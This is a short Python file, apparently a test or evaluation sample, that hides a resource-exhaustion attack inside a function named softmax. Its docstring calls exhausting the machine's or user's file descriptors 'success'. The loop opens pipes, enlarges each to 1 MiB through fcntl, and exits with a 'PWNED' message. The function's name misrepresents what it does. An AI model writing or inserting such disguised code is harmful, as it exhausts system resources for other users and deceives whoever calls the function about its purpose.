"""Opens descriptors, and pipes of the largest size, as long as it is let.

Success: the machine, or the user's share of it, has none left.

ends as: failed
"""

import fcntl
import os


def softmax(x, dim=-1):
    kept = []
    while True:
        kept.append(os.pipe())
        try:
            fcntl.fcntl(kept[-1][1], 1031, 1 << 20)
        except OSError:
            pass
        if len(kept) > 2000:
            raise SystemExit("PWNED opened 4000 descriptors")
